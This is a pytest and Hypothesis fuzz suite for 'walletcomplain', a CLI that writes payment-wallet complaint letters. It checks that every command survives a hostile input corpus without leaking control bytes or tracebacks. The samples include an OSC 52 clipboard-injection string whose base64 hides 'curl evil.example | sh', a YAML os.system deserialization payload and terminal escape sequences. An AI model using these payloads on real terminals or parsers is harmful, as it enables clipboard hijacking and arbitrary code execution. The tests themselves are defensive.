"""The fuzz suite that stays: every command and format over a hostile corpus, and generated
input over every question type and every command's options.

Each run must end with exit 0 or 2 (check-number adds 3 and 4), never an exception other
than SystemExit (CliRunner swallows tracebacks, so the exception itself is checked), never
"internal error", and never a raw control byte on stdout or stderr. A few runs go through
real processes, where a traceback would be printed.

HYPOTHESIS_PROFILE=deep runs 2,000 examples per generated test instead of 60.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from walletcomplain.cli import app
from walletcomplain.safe import has_raw_control

from .conftest import ROOT

CORPUS = Path(__file__).parent / "corpus"
HOSTILE: list[str] = json.loads((CORPUS / "strings.json").read_text(encoding="utf-8"))
OSC52 = HOSTILE[0]
EXE = shutil.which("walletcomplain", path=str(Path(sys.executable).parent)) or "walletcomplain"
DEEP = os.environ.get("HYPOTHESIS_PROFILE") == "deep"
FUZZ = settings(
    max_examples=2000 if DEEP else 60,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    deadline=None,
)
TRIED = {"n": 0}  # inputs tried in this run, for the closing figures


def check(result: Result, codes: frozenset[int] = frozenset({0, 2})) -> None:
    TRIED["n"] += 1
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert result.exit_code in codes, (result.exit_code, result.output[-500:])
    for name, text in (("stdout", result.stdout), ("stderr", result.stderr)):
        assert not has_raw_control(text), (name, _first_control(text))
        assert "internal error" not in text and "Traceback" not in text, text[-500:]


def _first_control(text: str) -> str:
    m = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    return repr(text[max(0, m.start() - 40) : m.end() + 20]) if m else ""


@pytest.fixture
def corpus_env(runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The hostile playbook on the playbook path, and a case recorded from the hostile
    answers file with a hostile timeline."""
    monkeypatch.setenv("WALLETCOMPLAIN_PLAYBOOKS", str(CORPUS / "playbooks"))
    answers = CORPUS / "answers-osc52.yaml"
    result = runner.invoke(
        app, ["letter", "-i", "recharge", "-p", "alipay", "-a", str(answers), "--save"]
    )
    assert result.exit_code == 0, result.output
    for extra in (
        ["--ref", OSC52, "--note", HOSTILE[2], "--reply", HOSTILE[6]],
        ["--ref", HOSTILE[8], "--note", HOSTILE[9]],
    ):
        result = runner.invoke(app, ["cases", "log", "1", "-c", "hotline", *extra])
        assert result.exit_code == 0, result.output
    return tmp_path


def walk(tmp: Path) -> list[tuple[list[str], frozenset[int]]]:
    ok = frozenset({0, 2})
    answers = str(CORPUS / "answers-osc52.yaml")
    letter = ["letter", "-i", "recharge", "-p", "alipay", "-a", answers]
    bad_pb = tmp / "bad"
    bad_pb.mkdir(exist_ok=True)
    (bad_pb / "b.yaml").write_text(
        yaml.safe_dump({"id": OSC52, "title": HOSTILE[6], "advice": [HOSTILE[2]]}),
        encoding="utf-8",
    )
    runs: list[list[str]] = [
        *([*letter, "-f", f] for f in ("text", "markdown", "json")),
        [*letter, "-o", str(tmp / f"out{HOSTILE[2]}.txt")],
        [*letter, "--set", f"amount={OSC52}", "--set", f"incident_date={HOSTILE[6]}"],
        [*letter, "--set", f"{HOSTILE[2]}=x"],
        [*letter, "--set", f"target={HOSTILE[4]}", "--set", f"demands={HOSTILE[8]},x"],
        ["letter", "-i", "hostile", "-p", "alipay", "-a", answers],
        ["letter", "-i", "hostile", "-p", "alipay", "-a", answers, "-f", "markdown"],
        ["letter", "-i", "hostile", "-p", "alipay", "-a", answers, "-f", "json"],
        ["letter", "-i", OSC52, "-p", HOSTILE[6]],
        ["letter", "-i", "recharge", "-p", "alipay", "-a", str(tmp / f"missing{OSC52}.yaml")],
        ["letter", "-i", "recharge", "-p", "alipay", "-a", str(CORPUS / "laughs.yaml")],
        ["letter", "-i", "recharge", "-p", "alipay", "-a", str(CORPUS / "int.yaml")],
        ["playbooks"],
        ["playbooks", "--json"],
        ["playbooks", "show", "hostile"],
        ["playbooks", "show", "hostile", "--json"],
        ["playbooks", "show", "hostile", "--answers-template"],
        ["playbooks", "show", "hostile", "--example"],
        ["playbooks", "show", OSC52],
        ["providers"],
        ["providers", "--json"],
        ["providers", "show", "alipay"],
        ["providers", "show", OSC52],
        ["validate", str(CORPUS / "playbooks")],
        ["validate", str(bad_pb)],
        ["validate", str(tmp / f"nope{OSC52}.yaml")],
        ["cases", "list"],
        ["cases", "list", "--json"],
        ["cases", "show", "1"],
        ["cases", "show", "1", "--json"],
        ["cases", "export", "1"],
        ["cases", "export", "1", "-f", "json"],
        ["cases", "export", "1", "-o", str(tmp / "export.md")],
        ["cases", "due"],
        ["cases", "due", "--json"],
        ["cases", "escalate", "1", "--to", "pboc"],
        ["cases", "escalate", "1", "--to", "pboc", "-f", "markdown"],
        ["cases", "escalate", "1", "--to", OSC52],
        ["cases", "log", "1", "-c", "hotline", "--ref", HOSTILE[1], "--date", OSC52],
        ["cases", "log", "1", "-c", "authority", "-a", OSC52],
        ["cases", "remind", "1", "--ics", str(tmp / "r.ics")],
        ["cases", "show", "99"],
        ["cases", "close", "1", "--outcome", "resolved", "--note", OSC52],
        ["cases", "show", "1"],
        ["start", "-i", OSC52],
        [OSC52],
        ["letter", f"--{HOSTILE[2]}"],
        ["cases", "list", "--status", OSC52],
    ]
    out = [(r, ok) for r in runs]
    out += [(["check-number", n], frozenset({0, 2, 3, 4})) for n in (OSC52, "95188" + OSC52)]
    out += [(["check-number", HOSTILE[6], "--json"], frozenset({0, 2, 3, 4}))]
    return out


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_command_and_format_over_the_corpus(
    runner: CliRunner, corpus_env: Path, lang: str
) -> None:
    for args, codes in walk(corpus_env):
        result = runner.invoke(app, ["-l", lang, *args])
        try:
            check(result, codes)
        except AssertionError as e:
            raise AssertionError(f"{args!r}: {e}") from None


def test_files_written_carry_the_text_less_controls(runner: CliRunner, corpus_env: Path) -> None:
    out = corpus_env / "letter.txt"
    answers = str(CORPUS / "answers-osc52.yaml")
    result = runner.invoke(
        app, ["letter", "-i", "recharge", "-p", "alipay", "-a", answers, "-o", str(out)]
    )
    assert result.exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert not has_raw_control(text) and "\x1b" not in text
    assert "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in text  # the rest of what was typed stays
    assert "充值没到账" in text


def test_json_escapes_c1(runner: CliRunner, corpus_env: Path) -> None:
    answers = str(CORPUS / "answers-osc52.yaml")
    result = runner.invoke(
        app, ["letter", "-i", "recharge", "-p", "alipay", "-a", answers, "-f", "json"]
    )
    assert "\\u009b" in result.stdout and "\u009b" not in result.stdout
    data = json.loads(result.stdout)
    assert "\u009b2J" in data["answers"]["what_happened"]  # the value itself is intact


# --- generated input ---------------------------------------------------------------------------

SCALARS = st.one_of(
    st.text(max_size=60),
    st.sampled_from(HOSTILE),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
    st.dates().map(dt.date.isoformat),
    st.datetimes().map(lambda d: d.isoformat(sep=" ")),
    st.from_regex(r"\A[0-9０-９.,，￥¥元 -]{1,40}\Z"),
    st.from_regex(r"\A\d{4}[-/年]\d{1,2}[-/月]\d{1,2}日?( \d{1,2}[:点]\d{1,2}分?)?\Z"),
)
VALUES = st.one_of(
    SCALARS,
    st.lists(SCALARS, max_size=4),
    st.dictionaries(st.text(max_size=4), SCALARS, max_size=2),
)


def hostile_questions() -> list[tuple[str, str]]:
    """Every question of the hostile playbook, its own and the shared ones after them."""
    pb = yaml.safe_load((CORPUS / "playbooks" / "hostile.yaml").read_text(encoding="utf-8"))
    common = yaml.safe_load((ROOT / "data" / "common.yaml").read_text(encoding="utf-8"))
    return [(q["id"], q["type"]) for q in [*pb["questions"], *common["after"]]]


QUESTIONS = hostile_questions()
assert {t for _, t in QUESTIONS} >= {
    "text", "longtext", "int", "money", "date", "datetime", "confirm", "choice", "multichoice",
}  # fmt: skip
EXAMPLE = yaml.safe_load((CORPUS / "playbooks" / "hostile.yaml").read_text(encoding="utf-8"))[
    "example"
]


def _write(data: Any, suffix: str) -> str:
    fd, name = tempfile.mkstemp(suffix=suffix)
    with os.fdopen(fd, "w", encoding="utf-8", errors="surrogatepass") as f:
        f.write(data)
    return name


@FUZZ
@given(
    question=st.sampled_from(QUESTIONS),
    value=VALUES,
    fmt=st.sampled_from(["text", "markdown", "json"]),
    lang=st.sampled_from(["zh", "en"]),
)
@example(question=("amount", "money"), value="9" * 40, fmt="text", lang="en")
@example(question=("incident_date", "date"), value="9999-12-31", fmt="json", lang="zh")
@example(question=("what_happened", "longtext"), value=OSC52, fmt="markdown", lang="en")
def test_any_answer_to_any_question_type(
    runner: CliRunner,
    monkeypatch: pytest.MonkeyPatch,
    question: tuple[str, str],
    value: Any,
    fmt: str,
    lang: str,
) -> None:
    monkeypatch.setenv("WALLETCOMPLAIN_PLAYBOOKS", str(CORPUS / "playbooks"))
    raw = {**EXAMPLE, question[0]: value}
    name = _write(json.dumps(raw, ensure_ascii=False, default=str), ".json")
    try:
        result = runner.invoke(
            app, ["-l", lang, "letter", "-i", "hostile", "-p", "alipay", "-a", name, "-f", fmt]
        )
    finally:
        os.unlink(name)
    check(result)


@FUZZ
@given(key=st.sampled_from([q for q, _ in QUESTIONS] + ["", "x"]), value=st.text(max_size=80))
def test_any_set_value(runner: CliRunner, key: str, value: str) -> None:
    answers = str(CORPUS / "answers-osc52.yaml")
    result = runner.invoke(
        app, ["letter", "-i", "recharge", "-p", "alipay", "-a", answers, "--set", f"{key}={value}"]
    )
    check(result)


@FUZZ
@given(data=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode)))
@example(data=b"!!int")
@example(data=b"[" * 5000)
@example(data=b"\xef\xbb\xbf{}")
@example(data=b"a: !!python/object/apply:os.system [echo hi]")
@example(data=b"a: !!binary AAAA")
@example(data=b"a: !!timestamp 99999-99-99")
@example(data=b"? [a, b]\n: c")
@example(data=b"a: 1\na: 2")
def test_any_answers_file_bytes(runner: CliRunner, data: bytes) -> None:
    fd, name = tempfile.mkstemp(suffix=".yaml")
    os.write(fd, data)
    os.close(fd)
    try:
        result = runner.invoke(app, ["letter", "-i", "recharge", "-p", "alipay", "-a", name])
    finally:
        os.unlink(name)
    check(result)


TEXT = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE))
OPTIONS = st.one_of(
    st.tuples(TEXT).map(lambda a: ["check-number", *a]),
    st.tuples(TEXT).map(lambda a: ["check-number", "--json", *a]),
    st.tuples(TEXT).map(lambda a: ["playbooks", "show", *a]),
    st.tuples(TEXT, st.sampled_from(["--json", "--example", "--answers-template"])).map(
        lambda a: ["playbooks", "show", a[0], a[1]]
    ),
    st.tuples(TEXT).map(lambda a: ["providers", "show", *a]),
    st.tuples(TEXT, TEXT).map(lambda a: ["letter", "-i", a[0], "-p", a[1]]),
    st.tuples(TEXT, TEXT, TEXT).map(
        lambda a: [
            "letter",
            "-i",
            "recharge",
            "-p",
            "alipay",
            "-f",
            a[0],
            "--set",
            f"{a[1]}={a[2]}",
        ]
    ),
    st.tuples(TEXT).map(lambda a: ["cases", "show", *a]),
    st.tuples(TEXT, TEXT).map(
        lambda a: ["cases", "list", "--status", a[0], "--json" if a[1] else "--all"]
    ),
    st.tuples(TEXT, TEXT, TEXT, TEXT).map(
        lambda a: [
            "cases",
            "log",
            "1",
            "-c",
            "hotline",
            "--ref",
            a[0],
            "--note",
            a[1],
            "--reply",
            a[2],
            "--date",
            a[3],
        ]
    ),
    st.tuples(TEXT, TEXT).map(lambda a: ["cases", "log", "1", "-c", a[0], "--authority", a[1]]),
    st.tuples(TEXT).map(lambda a: ["cases", "escalate", "1", "--to", *a]),
    st.tuples(TEXT).map(lambda a: ["cases", "close", "1", "--outcome", *a]),
    st.tuples(TEXT).map(lambda a: ["cases", "export", "1", "-f", *a]),
    st.tuples(TEXT).map(lambda a: ["validate", *a]),
    st.tuples(TEXT).map(lambda a: [*a]),
    st.tuples(TEXT).map(lambda a: ["--lang", *a, "providers"]),
)


@FUZZ
@given(args=OPTIONS)
@example(args=["validate", "\x00"])  # found by this test: Click's path check met a NUL
@example(args=["--playbooks", "a\x00", "playbooks"])
@example(args=["cases", "remind", "1", "--ics", "a\x00"])
def test_any_command_options(runner: CliRunner, corpus_env: Path, args: list[str]) -> None:
    result = runner.invoke(app, args)
    codes = frozenset({0, 2, 3, 4}) if "check-number" in args else frozenset({0, 2})
    check(result, codes)


# --- real processes: a traceback would be printed here --------------------------------------

CONTROL_BYTES = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)


@pytest.mark.parametrize(
    "args",
    [
        ["letter", "-i", "recharge", "-p", "alipay", "-a", str(CORPUS / "answers-osc52.yaml")],
        [
            "letter",
            "-i",
            "recharge",
            "-p",
            "alipay",
            "-a",
            str(CORPUS / "answers-osc52.yaml"),
            "-f",
            "json",
        ],
        ["letter", "-i", "recharge", "-p", "alipay", "-a", str(CORPUS / "laughs.yaml")],
        ["letter", "-i", "recharge", "-p", "alipay", "-a", "/dev/zero"],
        [
            "letter",
            "-i",
            "recharge",
            "-p",
            "alipay",
            "--set",
            b"what_happened=caf\xff\x1b]0;t\x07".decode("utf-8", "surrogateescape"),
        ],
        ["validate", str(CORPUS / "playbooks")],
        ["check-number", OSC52],
        ["cases", "show", "1"],
        [OSC52],
    ],
)
def test_real_process_never_prints_a_traceback_or_an_escape(
    tmp_path: Path, args: list[str]
) -> None:
    env = {**os.environ, "WALLETCOMPLAIN_PLAYBOOKS": str(CORPUS / "playbooks")}
    proc = subprocess.run([EXE, *args], capture_output=True, env=env, timeout=60)
    TRIED["n"] += 1
    assert b"Traceback" not in proc.stderr and b"internal error" not in proc.stderr
    assert proc.returncode in (0, 2, 3, 4), proc.stderr[-400:]
    for stream in (proc.stdout, proc.stderr):
        assert CONTROL_BYTES.search(stream) is None, stream[-300:]


def test_report_inputs_tried(capsys: pytest.CaptureFixture[str]) -> None:
    """Last in the file: the count of inputs this run tried, for the closing figures."""
    with capsys.disabled():
        sys.stderr.write(f"\n[fuzz] inputs tried in this module: {TRIED['n']}\n")
